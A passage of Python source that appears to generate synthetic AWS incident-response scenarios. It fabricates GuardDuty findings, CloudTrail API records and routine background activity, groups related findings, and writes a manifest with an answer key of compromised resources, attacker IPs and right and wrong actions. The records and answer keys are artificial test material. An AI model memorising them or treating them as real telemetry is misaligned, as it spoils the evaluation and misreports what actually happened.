            role = next(r for r in self.world.d["roles"] if r["arn"] == inst["role_arn"])
            d["iamInstanceProfile"] = {"arn": inst["instance_profile_arn"], "id": role["instance_profile_id"]}
        d["networkInterfaces"] = nics
        d["tags"] = [{"key": k, "value": v} for k, v in inst["tags"].items()]
        d["instanceState"] = inst["state"]
        d["availabilityZone"] = inst["availability_zone"]
        d["imageId"] = inst["image_id"]
        d["imageDescription"] = inst["platform"]
        return {"resourceType": "Instance", "instanceDetails": d}

    def _sg_name(self, gid):
        return next(g["group_name"] for g in self.world.d["security_groups"] if g["group_id"] == gid)

    @staticmethod
    def access_key(key, principal_id, user_name, user_type):
        return {"resourceType": "AccessKey",
                "accessKeyDetails": {"accessKeyId": key, "principalId": principal_id, "userName": user_name,
                                     "userType": user_type}}

    def remote(self, ip):
        return remote_ip_details(ip, self.geo)

    def net_action(self, direction, remote_ip, rport, rname, lport, lname, local_ip):
        return {"actionType": "NETWORK_CONNECTION",
                "networkConnectionAction": {"connectionDirection": direction,
                                            "remoteIpDetails": self.remote(remote_ip),
                                            "remotePortDetails": {"port": rport, "portName": rname},
                                            "localPortDetails": {"port": lport, "portName": lname},
                                            "protocol": "TCP", "blocked": False,
                                            "localIpDetails": {"ipAddressV4": local_ip}}}

    @staticmethod
    def dns_action(domain):
        return {"actionType": "DNS_REQUEST",
                "dnsRequestAction": {"domain": domain, "protocol": "UDP", "blocked": False}}

    def api_action(self, api, service, remote_ip, error=None, affected=None):
        a = {"api": api, "serviceName": service, "callerType": "Remote IP",
             "remoteIpDetails": self.remote(remote_ip), "affectedResources": affected or {}}
        if error:
            a["errorCode"] = error
        return {"actionType": "AWS_API_CALL", "awsApiCallAction": a}

    def probe_action(self, probes):
        """probes: [(local_port, port_name, local_ip, remote_ip)]"""
        return {"actionType": "PORT_PROBE",
                "portProbeAction": {"blocked": False, "portProbeDetails": [
                    {"localPortDetails": {"port": p, "portName": n}, "localIpDetails": {"ipAddressV4": lip},
                     "remoteIpDetails": self.remote(rip)} for p, n, lip, rip in probes]}}

    def add(self, ftype, severity, region, resource, action, first, last, count, created, updated, title,
            description, feature, *, additional=None, evidence=None, runtime=None, resource_role="TARGET",
            note="", envelope="array", omit_action=False):
        acct = self.world.account
        det = self.world.detector_id(region)
        fid = self.rng.hexs(32)
        if self.end is not None:
            # the data stops at the scenario's end: the last update we hold happened before it
            updated = max(min(updated, self.end - 1), created, last)
        service = {"serviceName": "guardduty", "detectorId": det}
        if not omit_action:
            service["action"] = action if action is not None else {}
        service["resourceRole"] = resource_role
        service["additionalInfo"] = additional if additional is not None else {}
        if evidence:
            service["evidence"] = evidence
        if runtime:
            service["runtimeDetails"] = runtime
        service["featureName"] = feature
        service["eventFirstSeen"] = iso(first)
        service["eventLastSeen"] = iso(last)
        service["archived"] = False
        service["count"] = count
        f = {"schemaVersion": "2.0", "accountId": acct, "region": region, "partition": "aws", "id": fid,
             "arn": f"arn:aws:guardduty:{region}:{acct}:detector/{det}/finding/{fid}", "type": ftype,
             "resource": resource, "service": service, "severity": severity,
             "createdAt": iso_ms(int(created * 1000) + self.rng.randint(0, 999)),
             "updatedAt": iso_ms(int(updated * 1000) + self.rng.randint(0, 999)),
             "title": title, "description": description}
        if f["updatedAt"] < f["createdAt"]:
            f["updatedAt"] = f["createdAt"]
        self.findings.append((f, {"note": note, "envelope": envelope}))
        return f

    def add_sample(self, ftype, severity, region, created, title, description, action, resource_type="Instance",
                   note="", envelope="array"):
        """A finding as GuardDuty's CreateSampleFindings makes it: placeholders everywhere."""
        acct = self.world.account
        det = self.world.detector_id(region)
        fid = self.rng.hexs(32)
        inst = {"instanceId": "i-99999999", "instanceType": "m3.xlarge", "outpostArn":
                "arn:aws:outposts:us-west-2:123456789000:outpost/op-0fbc006e9abbc73c3",
                "launchTime": "2016-08-02T02:05:06.000Z", "platform": None,
                "productCodes": [{"productCodeId": "GeneratedFindingProductCodeId",
                                  "productCodeType": "GeneratedFindingProductCodeType"}],
                "iamInstanceProfile": {"arn": "arn:aws:iam::123456789012:example/instance/profile",
                                       "id": "GeneratedFindingInstanceProfileId"},
                "networkInterfaces": [{"ipv6Addresses": [], "networkInterfaceId": "eni-bfcffe88",
                                       "privateDnsName": "GeneratedFindingPrivateDnsName",
                                       "privateIpAddress": "10.0.0.1",
                                       "privateIpAddresses": [{"privateDnsName": "GeneratedFindingPrivateName",
                                                               "privateIpAddress": "10.0.0.1"}],
                                       "subnetId": "GeneratedFindingSubnetId", "vpcId": "GeneratedFindingVPCId",
                                       "securityGroups": [{"groupName": "GeneratedFindingSecurityGroupName",
                                                           "groupId": "GeneratedFindingSecurityId"}],
                                       "publicDnsName": "GeneratedFindingPublicDNSName",
                                       "publicIp": "198.51.100.0"}],
                "tags": [{"key": "GeneratedFindingInstaceTag1", "value": "GeneratedFindingInstaceValue1"},
                         {"key": "GeneratedFindingInstaceTag2", "value": "GeneratedFindingInstaceTagValue2"}],
                "instanceState": "running", "availabilityZone": "GeneratedFindingInstaceAvailabilityZone",
                "imageId": "ami-99999999", "imageDescription": "GeneratedFindingInstaceImageDescription"}
        if resource_type == "AccessKey":
            resource = {"resourceType": "AccessKey",
                        "accessKeyDetails": {"accessKeyId": "GeneratedFindingAccessKeyId",
                                             "principalId": "GeneratedFindingPrincipalId",
                                             "userType": "IAMUser", "userName": "GeneratedFindingUserName"},
                        "instanceDetails": inst}
        else:
            resource = {"resourceType": "Instance", "instanceDetails": inst}
        service = {"serviceName": "guardduty", "detectorId": det, "action": action, "resourceRole": "TARGET",
                   "additionalInfo": {"threatListName": "GeneratedFindingThreatListName", "sample": True},
                   "evidence": {"threatIntelligenceDetails": [{"threatListName": "GeneratedFindingThreatListName",
                                                               "threatNames": ["GeneratedFindingThreatName"]}]},
                   "eventFirstSeen": iso(created), "eventLastSeen": iso(created), "archived": False, "count": 1}
        ms = int(created * 1000) + self.rng.randint(0, 999)
        f = {"schemaVersion": "2.0", "accountId": acct, "region": region, "partition": "aws", "id": fid,
             "arn": f"arn:aws:guardduty:{region}:{acct}:detector/{det}/finding/{fid}", "type": ftype,
             "resource": resource, "service": service, "severity": severity, "createdAt": iso_ms(ms),
             "updatedAt": iso_ms(ms), "title": title, "description": description}
        self.findings.append((f, {"note": note, "envelope": envelope}))
        return f

    @staticmethod
    def sample_remote():
        return {"ipAddressV4": "198.51.100.0",
                "organization": {"asn": "-1", "asnOrg": "GeneratedFindingASNOrg", "isp": "GeneratedFindingISP",
                                 "org": "GeneratedFindingORG"},
                "country": {"countryName": "GeneratedFindingCountryName"},
                "city": {"cityName": "GeneratedFindingCityName"}, "geoLocation": {"lat": 0, "lon": 0}}

    # output ---------------------------------------------------------------------------------------
    def write(self, root: Path) -> list[dict]:
        acct = self.world.account
        files: dict[str, list] = {}
        for f, meta in self.findings:
            env = meta["envelope"]
            if env == "array":
                files.setdefault("findings/findings.json", []).append(("array", f))
            elif env == "s3export":
                d = utc(ts(f["updatedAt"][:19] + "Z"))
                key = (f"findings/AWSLogs/{acct}/GuardDuty/{f['region']}/{d.strftime('%Y/%m/%d')}/"
                       f"{{uuid:{f['region']}:{d.strftime('%Y%m%d%H')}}}.jsonl.gz")
                files.setdefault(key, []).append(("jsonl", f))
            elif env == "eventbridge":
                files.setdefault(f"findings/eventbridge/{f['id']}.json", []).append(("eventbridge", f))
            elif env == "pascal":
                files.setdefault(f"findings/get-findings-{f['region']}.json", []).append(("pascal", f))
            else:
                raise ValueError(env)
        slices = []
        uuids = {}
        for key in sorted(files):
            entries = files[key]
            kind = entries[0][0]
            fs = [f for _, f in entries]
            path = key
            if "{uuid:" in key:
                tag = key[key.index("{uuid:"):key.index("}") + 1]
                uuids.setdefault(tag, self.rng.uuid())
                path = key.replace(tag, uuids[tag])
            if kind == "array":
                write_bytes(root / path, (json.dumps(fs, indent=2, ensure_ascii=False) + "\n").encode())
            elif kind == "jsonl":
                write_gz(root / path, "".join(dumps_line(f) + "\n" for f in fs))
            elif kind == "eventbridge":
                f = fs[0]
                env = {"version": "0", "id": self.rng.uuid(), "detail-type": "GuardDuty Finding",
                       "source": "aws.guardduty", "account": acct, "time": f["updatedAt"][:19] + "Z",
                       "region": f["region"], "resources": [], "detail": f}
                write_bytes(root / path, (json.dumps(env, indent=2, ensure_ascii=False) + "\n").encode())
            elif kind == "pascal":
                out = {"Findings": [pascal_finding(f) for f in fs]}
                write_bytes(root / path, (json.dumps(out, indent=4, ensure_ascii=False) + "\n").encode())
            times = sorted(f["createdAt"] for f in fs)
            slices.append({"path": path, "kind": "findings", "from": times[0][:19] + "Z",
                           "to": max(f["updatedAt"] for f in fs)[:19] + "Z", "records": len(fs)})
        return slices


def pascal_finding(o):
    """The AWS CLI / boto3 shape: PascalCase keys, Severity a float, AdditionalInfo as {Value, Type}."""
    if isinstance(o, dict):
        out = {}
        for k, v in o.items():
            pk = k[0].upper() + k[1:]
            if k == "additionalInfo":
                out["AdditionalInfo"] = {"Value": json.dumps(v, separators=(",", ":")), "Type": "default"}
            elif k == "severity":
                out["Severity"] = float(v)
            else:
                out[pk] = pascal_finding(v)
        return out
    if isinstance(o, list):
        return [pascal_finding(x) for x in o]
    return o


# --------------------------------------------------------------------------------------------------
# the grouping rule (issue 2, section 3), implemented for the manifest

LINKING = {"ip", "domain", "instance", "role", "session", "user", "key", "bucket"}


def placeholder(v) -> bool:
    return not isinstance(v, str) or not v.strip() or v.startswith("GeneratedFinding") or v == "i-99999999"


def canonical_ip(s):
    try:
        return str(ipaddress.ip_address(s))
    except ValueError:
        return None


def finding_entities(f: dict) -> set[tuple[str, str]]:
    ents = set()
    acct = f.get("accountId")
    if acct:
        ents.add(("account", acct))
    res = f.get("resource") or {}
    inst = res.get("instanceDetails") or {}
    if not placeholder(inst.get("instanceId")):
        ents.add(("instance", inst["instanceId"]))

    def ip(v):
        if isinstance(v, str) and not placeholder(v):
            c = canonical_ip(v)
            if c:
                ents.add(("ip", c))

    for nic in inst.get("networkInterfaces") or []:
        ip(nic.get("privateIpAddress"))
        ip(nic.get("publicIp"))
        for p in nic.get("privateIpAddresses") or []:
            ip(p.get("privateIpAddress"))
    akd = res.get("accessKeyDetails") or {}
    if not placeholder(akd.get("accessKeyId")):
        ents.add(("key", akd["accessKeyId"]))
    un, ut = akd.get("userName"), akd.get("userType")
    if not placeholder(un):
        if ut == "IAMUser":
            ents.add(("user", f"arn:aws:iam::{acct}:user/{un}"))
        elif ut == "Root":
            ents.add(("user", f"arn:aws:iam::{acct}:root"))
        elif ut in ("AssumedRole", "Role"):
            ents.add(("role", f"arn:aws:iam::{acct}:role/{un}"))
    for b in res.get("s3BucketDetails") or []:
        if not placeholder(b.get("name")):
            ents.add(("bucket", b["name"]))
    action = (f.get("service") or {}).get("action") or {}
    for k in ("networkConnectionAction", "awsApiCallAction", "kubernetesApiCallAction", "rdsLoginAttemptAction"):
        r = (action.get(k) or {}).get("remoteIpDetails") or {}
        ip(r.get("ipAddressV4"))
        ip(r.get("ipAddressV6"))
    for d in (action.get("portProbeAction") or {}).get("portProbeDetails") or []:
        r = d.get("remoteIpDetails") or {}
        ip(r.get("ipAddressV4"))
        ip(r.get("ipAddressV6"))
    dom = (action.get("dnsRequestAction") or {}).get("domain")
    if not placeholder(dom):
        ents.add(("domain", dom.strip().rstrip(".").lower()))
    return ents


def compute_groups(findings: list[dict]) -> list[dict]:
    parent = list(range(len(findings)))

    def find(i):
        while parent[i] != i:
            parent[i] = parent[parent[i]]
            i = parent[i]
        return i

    owner: dict[tuple, int] = {}
    for i, f in enumerate(findings):
        for kind, val in sorted(finding_entities(f)):
            if kind not in LINKING or (kind == "ip" and not is_public_ip(val)):
                continue
            if (kind, val) in owner:
                a, b = find(i), find(owner[(kind, val)])
                if a != b:
                    parent[max(a, b)] = min(a, b)
            else:
                owner[(kind, val)] = i
    comps: dict[int, list] = {}
    for i, f in enumerate(findings):
        comps.setdefault(find(i), []).append(f)
    groups = []
    for members in comps.values():
        sev = max(float(f["severity"]) for f in members)
        first = min(f["createdAt"] for f in members)
        groups.append({"findings": sorted(f["id"] for f in members), "severity": sev, "_first": first})
    groups.sort(key=lambda g: (-g["severity"], g["_first"]))
    for g in groups:
        del g["_first"]
    return groups


# --------------------------------------------------------------------------------------------------
# API call shapes (requestParameters / responseElements as CloudTrail records them)


def s3_extra(nbytes_out=0, nbytes_in=0):
    return {"additionalEventData": {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
                                    "bytesTransferredIn": nbytes_in, "AuthenticationMethod": "AuthHeader",
                                    "bytesTransferredOut": nbytes_out}}


def bucket_res(acct, name):
    return [{"accountId": acct, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{name}"}]


def object_res(acct, bucket, key):
    return [{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{bucket}/{key}"},
            {"accountId": acct, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"}]


def read_call(trail: Trail, t, who: Actor, api: str, region=None, attack=False, error=None, **kw):
    """A read-only call from a fixed catalogue, with AWS's request shapes filled from the world."""
    w = trail.world
    acct = w.account
    region = region or w.region
    rng = trail.rng
    svc, req, res, extra = None, None, None, {}
    if api == "DescribeInstances":
        ids = kw.get("ids")
        svc, req = "ec2.amazonaws.com", {"instancesSet": items("instanceId", ids) if ids else {}, "filterSet": {}}
    elif api == "DescribeSecurityGroups":
        svc, req = "ec2.amazonaws.com", {"securityGroupSet": {}, "securityGroupIdSet": {}, "filterSet": {}}
    elif api == "DescribeVpcs":
        svc, req = "ec2.amazonaws.com", {"vpcSet": {}, "filterSet": {}}
    elif api == "DescribeSubnets":
        svc, req = "ec2.amazonaws.com", {"subnetSet": {}, "filterSet": {}}
    elif api == "DescribeVolumes":
        svc, req = "ec2.amazonaws.com", {"volumeSet": {}, "filterSet": {}}
    elif api == "DescribeNetworkInterfaces":
        svc, req = "ec2.amazonaws.com", {"networkInterfaceIdSet": {}, "filterSet": {}}
    elif api == "DescribeSnapshots":
        svc, req = "ec2.amazonaws.com", {"snapshotSet": kw.get("snaps", {}), "ownersSet": items("owner", ["self"]),
                                         "filterSet": {}}
    elif api == "DescribeImages":
        svc, req = "ec2.amazonaws.com", {"executableBySet": {}, "imagesSet": {}, "ownersSet":
                                         items("owner", kw.get("owners", ["self"])), "filterSet": {}}
    elif api == "DescribeRegions":
        svc, req = "ec2.amazonaws.com", {"regionSet": {}}
    elif api == "DescribeInstanceStatus":
        svc, req = "ec2.amazonaws.com", {"instancesSet": {}, "filterSet": {}, "includeAllInstances": False}
    elif api == "DescribeKeyPairs":
        svc, req = "ec2.amazonaws.com", {"keySet": {}}
    elif api == "DescribeAddresses":
        svc, req = "ec2.amazonaws.com", {"publicIpsSet": {}, "allocationIdsSet": {}, "filterSet": {}}
    elif api == "DescribeAccountAttributes":
        svc, req = "ec2.amazonaws.com", {"accountAttributeNameSet": items("attributeName", ["supported-platforms"]),
                                         "filterSet": {}}
    elif api == "DescribeLaunchTemplates":
        svc, req = "ec2.amazonaws.com", {"DescribeLaunchTemplatesRequest": {}}
    elif api == "GetCallerIdentity":
        svc, req = "sts.amazonaws.com", None
    elif api in ("ListUsers", "ListRoles", "ListGroups", "ListInstanceProfiles", "GetAccountSummary",
                 "GetAccountPasswordPolicy", "GetCredentialReport", "ListOpenIDConnectProviders",
                 "ListSAMLProviders", "ListServerCertificates", "ListVirtualMFADevices"):
        svc, req = "iam.amazonaws.com", None
    elif api == "GenerateCredentialReport":
        svc, req = "iam.amazonaws.com", None
    elif api == "ListPolicies":
        svc, req = "iam.amazonaws.com", {"scope": "Local", "onlyAttached": True}
    elif api == "GetAccountAuthorizationDetails":
        svc, req = "iam.amazonaws.com", {"filter": ["User", "Role", "Group", "LocalManagedPolicy"]}
    elif api in ("GetRole", "ListAttachedRolePolicies", "ListRolePolicies"):
        svc, req = "iam.amazonaws.com", {"roleName": kw["role"]}
    elif api == "GetRolePolicy":
        svc, req = "iam.amazonaws.com", {"roleName": kw["role"], "policyName": kw["policy"]}
    elif api in ("GetUser", "ListAccessKeys", "ListAttachedUserPolicies", "ListGroupsForUser", "ListUserPolicies",
                 "ListMFADevices", "GetLoginProfile"):
        svc, req = "iam.amazonaws.com", {"userName": kw["user"]}
    elif api == "GetAccessKeyLastUsed":
        svc, req = "iam.amazonaws.com", {"accessKeyId": kw["key"]}
    elif api == "GetPolicy":
        svc, req = "iam.amazonaws.com", {"policyArn": kw["policy_arn"]}
    elif api == "GetPolicyVersion":
        svc, req = "iam.amazonaws.com", {"policyArn": kw["policy_arn"], "versionId": kw["version"]}
    elif api == "ListPolicyVersions":
        svc, req = "iam.amazonaws.com", {"policyArn": kw["policy_arn"]}
    elif api == "ListBuckets":
        svc, req = "s3.amazonaws.com", {"Host": f"s3.{region}.amazonaws.com"}
        extra = s3_extra()
    elif api in ("GetBucketAcl", "GetBucketPolicy", "GetBucketLocation", "GetBucketVersioning",
                 "GetBucketEncryption", "GetBucketPublicAccessBlock", "GetBucketTagging", "GetBucketLogging"):
        b = kw["bucket"]
        sub = {"GetBucketAcl": "acl", "GetBucketPolicy": "policy", "GetBucketLocation": "location",
               "GetBucketVersioning": "versioning", "GetBucketEncryption": "encryption",
               "GetBucketPublicAccessBlock": "publicAccessBlock", "GetBucketTagging": "tagging",
               "GetBucketLogging": "logging"}[api]
        svc, req = "s3.amazonaws.com", {"bucketName": b, "Host": f"{b}.s3.{region}.amazonaws.com", sub: ""}
        res = bucket_res(acct, b)
        extra = s3_extra()
    elif api == "DescribeTrails":
        svc, req = "cloudtrail.amazonaws.com", {"trailNameList": [], "includeShadowTrails": True}
    elif api == "GetTrailStatus":
        svc, req = "cloudtrail.amazonaws.com", {"name": kw["trail_arn"]}
    elif api == "ListTrails":
        svc, req = "cloudtrail.amazonaws.com", None
    elif api == "GetEventSelectors":
        svc, req = "cloudtrail.amazonaws.com", {"trailName": kw["trail_arn"]}
    elif api == "ListDetectors":
        svc, req = "guardduty.amazonaws.com", None
    elif api == "GetDetector":
        svc, req = "guardduty.amazonaws.com", {"detectorId": kw["detector"]}
    elif api == "ListFunctions20150331":
        svc, req = "lambda.amazonaws.com", None
    elif api == "GetFunction20150331v2":
        svc, req = "lambda.amazonaws.com", {"functionName": kw["function"]}
    elif api == "ListSecrets":
        svc, req = "secretsmanager.amazonaws.com", None
    elif api == "DescribeDBInstances":
        svc, req = "rds.amazonaws.com", None
    elif api == "DescribeAutoScalingGroups":
        svc, req = "autoscaling.amazonaws.com", {"autoScalingGroupNames": kw.get("asgs", [])}
    elif api == "DescribeLoadBalancers":
        svc, req = "elasticloadbalancing.amazonaws.com", {"pageSize": 400}
    elif api == "DescribeTargetHealth":
        svc, req = "elasticloadbalancing.amazonaws.com", {"targetGroupArn": kw["tg"]}
    elif api == "DescribeAlarms":
        svc, req = "monitoring.amazonaws.com", {"maxRecords": 100}
    elif api == "DescribeLogGroups":
        svc, req = "logs.amazonaws.com", {"limit": 50}
    elif api == "FilterLogEvents":
        svc, req = "logs.amazonaws.com", {"logGroupName": kw["group"], "startTime": kw.get("start_ms", 0),
                                          "interleaved": True}
    elif api == "DescribeStacks":
        svc, req = "cloudformation.amazonaws.com", {"stackName": kw["stack"]}
    elif api == "GetAuthorizationToken":
        svc, req = "ecr.amazonaws.com", {"registryIds": [acct]}
    elif api == "DescribeInstanceInformation":
        svc, req = "ssm.amazonaws.com", {"maxResults": 50}
    elif api == "GetParameters":
        svc, req = "ssm.amazonaws.com", {"names": kw["names"], "withDecryption": True}
    elif api == "GetSecretValue":
        svc, req = "secretsmanager.amazonaws.com", {"secretId": kw["secret"]}
    elif api == "ListInstanceAssociations":
        svc, req = "ssm.amazonaws.com", {"instanceId": kw["instance"], "maxResults": 20}
    elif api == "GetMetricData":
        svc, req = "monitoring.amazonaws.com", {"metricDataQueries": [{"id": "m1", "returnData": True}],
                                                "startTime": iso(t - 3600), "endTime": iso(t)}
    else:
        raise KeyError(api)
    return trail.ev(t, who, svc, api, region=region, req=req, resources=res, extra=extra, attack=attack,
                    error=error, data=False)


def kms_decrypt(trail: Trail, t, who: Actor, key_id, context):
    w = trail.world
    arn = f"arn:aws:kms:{w.region}:{w.account}:key/{key_id}"
    return trail.ev(t, who, "kms.amazonaws.com", "Decrypt",
                    req={"encryptionContext": context, "encryptionAlgorithm": "SYMMETRIC_DEFAULT"},
                    resources=[{"accountId": w.account, "type": "AWS::KMS::Key", "ARN": arn}], read_only=True)


# --------------------------------------------------------------------------------------------------
# background activity that every account has


SSM_UA = "aws-sdk-go/1.55.5 (go1.22.7; linux; amd64) amazon-ssm-agent/3.3.987.0"
CONFIG_UA = "config.amazonaws.com"
BROWSER_UA = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/122.0.0.0 Safari/537.36")
CLI_UA = "aws-cli/2.15.30 Python/3.11.8 Darwin/23.4.0 exe/x86_64 prompt/off command/{cmd}"
TF_UA = ("APN/1.0 HashiCorp/1.0 Terraform/1.7.5 (+https://www.terraform.io) terraform-provider-aws/5.46.0 "
         "(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.1 "
         "md/GOOS#linux md/GOARCH#amd64 api/ec2#1.155.1")
GHA_UA = "aws-cli/2.15.40 Python/3.11.8 Linux/6.5.0-1018-azure exe/x86_64.ubuntu.22 prompt/off command/{cmd}"


def periodic(rng: Rng, start, end, every, jitter, phase=None):
    t = start + (rng.uniform(0, every) if phase is None else phase)
    out = []
    while t < end:
        out.append(int(t + rng.uniform(-jitter, jitter)))
        t += every
    return [x for x in out if start <= x < end]


def instance_session(world: World, trail: Trail, inst, start, end, delivery="2.0", ip=None, ua=None,
                     period=3600, first=None):
    """Instance-profile credentials: an AWSService sts:AssumeRole each time EC2 refreshes them, and an
    Actor whose session name is the instance id (as AWS names it)."""
    rng = trail.rng
    role = next(r for r in world.d["roles"] if r["arn"] == inst["role_arn"])
    session_arn = f"arn:aws:sts::{world.account}:assumed-role/{role['name']}/{inst['instance_id']}"
    t = first if first is not None else start - rng.randint(300, period - 300)
    creds = []
    svc = Actor("AWSService", "ec2.amazonaws.com", "ec2.amazonaws.com", invoked_by="ec2.amazonaws.com")
    while t < end:
        c = world.temp_cred("instance-profile", session_arn, t, 6 * 3600, role_arn=role["arn"],
                            instance_id=inst["instance_id"])
        creds.append((t, c["access_key_id"]))
        if t >= start:
            trail.ev(t, svc, "sts.amazonaws.com", "AssumeRole", region=inst["region"],
                     req={"roleArn": role["arn"], "roleSessionName": inst["instance_id"]},
                     resp={"credentials": {"accessKeyId": c["access_key_id"], "sessionToken": rng.token(),
                                           "expiration": java_date(t + 6 * 3600, comma=True)},
                           "assumedRoleUser": {"assumedRoleId": f"{role['role_id']}:{inst['instance_id']}",
                                               "arn": session_arn}},
                     resources=[{"accountId": world.account, "type": "AWS::IAM::Role", "ARN": role["arn"]}],
                     read_only=True, tls=False)
        t += period + rng.randint(-120, 120)
    return Actor("AssumedRole", ip or inst["public_ip"], ua or SSM_UA, role=role, session=inst["instance_id"],
                 creds=creds, delivery=delivery, account=world.account)


def role_session(world: World, rng: Rng, role_name, session, start, end, ip, ua, kind, period=3600, lifetime=3600):
    role = world.role[role_name]
    arn = f"arn:aws:sts::{world.account}:assumed-role/{role['name']}/{session}"
    t = start - rng.randint(60, period - 60)
    creds = []
    while t < end:
        c = world.temp_cred(kind, arn, t, lifetime, role_arn=role["arn"])
        creds.append((t, c["access_key_id"]))
        t += period
    return Actor("AssumedRole", ip, ua, role=role, session=session, creds=creds, account=world.account)


def ssm_agent(trail: Trail, who: Actor, inst, start, end):
    rng = trail.rng
    for t in periodic(rng, start, end, 300, 8):
        trail.ev(t, who, "ssm.amazonaws.com", "UpdateInstanceInformation", region=inst["region"],
                 req={"instanceId": inst["instance_id"], "agentVersion": "3.3.987.0", "agentStatus": "Active",
                      "platformType": "Linux", "platformName": "Amazon Linux", "platformVersion": "2023",
                      "iPAddress": inst["private_ip"],
                      "computerName": dns_name_private(inst["private_ip"], inst["region"]),
                      "agentName": "amazon-ssm-agent", "availabilityZone": inst["availability_zone"]},
                 read_only=False)
    for t in periodic(rng, start, end, 600, 20):
        read_call(trail, t, who, "ListInstanceAssociations", region=inst["region"], instance=inst["instance_id"])


def config_sweeps(trail: Trail, who: Actor, start, end, every=1800):
    w = trail.world
    rng = trail.rng
    for t0 in periodic(rng, start, end, every, 60):
        t = t0
        for inst in w.d["instances"]:
            if inst["region"] != w.region:
                continue
            read_call(trail, t, who, "DescribeInstances", ids=[inst["instance_id"]])
            t += rng.randint(1, 4)
        for api in ("DescribeSecurityGroups", "DescribeNetworkInterfaces", "DescribeVolumes", "DescribeSubnets"):
            read_call(trail, t, who, api)
            t += rng.randint(1, 3)
        for b in w.d["buckets"]:
            if b["region"] != w.region:
                continue
            read_call(trail, t, who, "GetBucketAcl", bucket=b["name"])
            t += 1
            err = None if b.get("policy") else ("NoSuchBucketPolicy", "The bucket policy does not exist")
            read_call(trail, t, who, "GetBucketPolicy", bucket=b["name"], error=err)
            t += rng.randint(1, 2)


def human_burst(trail: Trail, who: Actor, t, n, menu, spread=20):
    """n calls drawn from `menu` (a list of (api, kwargs) or callables) starting at t."""
    rng = trail.rng
    for _ in range(n):
        item = rng.choice(menu)
        if callable(item):
            item(t)
        else:
            api, kw = item
            read_call(trail, t, who, api, **kw)
        t += rng.randint(1, spread)
    return t


def console_login(trail: Trail, who: Actor, t):
    w = trail.world
    u = next(x for x in w.d["users"] if x["arn"] == who.arn) if who.kind == "IAMUser" else None
    ident = {"type": who.kind, "principalId": who.principal_id if u else w.account, "arn": who.arn,
             "accountId": w.account}
    if u:
        ident["userName"] = who.name
    rec = {"eventVersion": "1.08", "userIdentity": ident, "eventTime": iso(t), "eventSource": "signin.amazonaws.com",
           "eventName": "ConsoleLogin", "awsRegion": "us-east-1", "sourceIPAddress": who.source_ip(t),
           "userAgent": BROWSER_UA, "requestParameters": None, "responseElements": {"ConsoleLogin": "Success"},
           "additionalEventData": {"LoginTo": "https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true",
                                   "MobileVersion": "No", "MFAUsed": "Yes" if who.mfa else "No"},
           "eventID": trail.rng.uuid(), "readOnly": False, "eventType": "AwsConsoleSignIn", "managementEvent": True,
           "recipientAccountId": w.account, "eventCategory": "Management",
           "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                          "clientProvidedHostHeader": "signin.aws.amazon.com"}}
    trail.records.append(rec)
    return rec


def console_user(world: World, rng: Rng, name, ip, logins, mfa=True):
    """A console user: one sign-in session (ASIA key) per login time."""
    u = world.user[name]
    creds = []
    for t in logins:
        c = world.temp_cred("console", u["arn"], t, 12 * 3600, user_arn=u["arn"])
        creds.append((t, c["access_key_id"]))
    return Actor("IAMUser", ip, BROWSER_UA, arn=u["arn"], name=name, principal_id=u["user_id"], creds=creds,
                 console=True, mfa=mfa, account=world.account)


def cli_user(world: World, name, ip, ua):
    u = world.user[name]
    return Actor("IAMUser", ip, ua, arn=u["arn"], name=name, principal_id=u["user_id"],
                 key=u["access_keys"][0]["access_key_id"], account=world.account)


# --------------------------------------------------------------------------------------------------
# writing one scenario


class Scenario:
    def __init__(self, name, title, synopsis, world, start, end, rng):
        self.name, self.title, self.synopsis = name, title, synopsis
        self.order = ORDER[name]
        for r in world.d["regions"]:
            world.detector_id(r)  # GuardDuty is on in every region the scenario covers
        self.world, self.start, self.end, self.rng = world, start, end, rng
        self.trail = Trail(rng, world)
        self.flows: list[Flows] = []
        self.dns: list[tuple[Dns, str | None]] = []
        self.gd = GuardDuty(rng, world, {})
        self.gd.end = end
        self.answer = {}
        self.noise = {}
        self.threat_intel: str | None = None
        self.story: list[str] = []

    def write(self, out_root: Path) -> dict:
        d = out_root / self.name
        if d.exists():
            shutil.rmtree(d)
        d.mkdir(parents=True)
        slices = self.gd.write(d)
        slices += self.trail.write(d)
        for f in self.flows:
            slices += f.write(d, self.start, self.end)
        for dn, plain in self.dns:
            slices += dn.write(d, self.start, self.end, plain)
        write_bytes(d / "world.json", self.world.to_json().encode())
        if self.threat_intel:
            write_bytes(d / "threat-intel.txt", self.threat_intel.encode())
        findings = [f for f, _ in self.gd.findings]
        groups = compute_groups(findings)
        self.groups = groups
        lines = [f"# vigil demo scenario — generated by tools/demo-gen/gen_scenarios.py; do not edit by hand.",
                 f"name = {toml_str(self.name)}", f"title = {toml_str(self.title)}",
                 f"synopsis = {toml_str(self.synopsis)}", f"order = {self.order}",
                 f"account_id = {toml_str(self.world.account)}",
                 f"regions = {toml_val(self.world.d['regions'])}", f"start = {toml_str(iso(self.start))}",
                 f"end = {toml_str(iso(self.end))}", 'world = "world.json"']
        if self.threat_intel:
            lines.append('threat_intel = "threat-intel.txt"')
        lines.append("story = " + toml_val(self.story))
        lines.append("")
        for f, meta in sorted(self.gd.findings, key=lambda x: (x[0]["createdAt"], x[0]["id"])):
            created = ts(f["createdAt"][:19] + "Z")
            lines += ["[[timeline]]", f"finding_id = {toml_str(f['id'])}",
                      f"offset_secs = {created - self.start}", f"at = {toml_str(f['createdAt'])}",
                      f"type = {toml_str(f['type'])}", f"severity = {toml_val(float(f['severity']))}",
                      f"note = {toml_str(meta['note'])}", ""]
        for s in slices:
            lines += ["[[slices]]", f"path = {toml_str(s['path'])}", f"kind = {toml_str(s['kind'])}",
                      f"from = {toml_str(s['from'])}", f"to = {toml_str(s['to'])}", f"records = {s['records']}", ""]
        lines.append("[answer_key]")
        for k in ("compromised", "attacker_ips", "attacker_domains", "right_actions", "wrong_actions"):
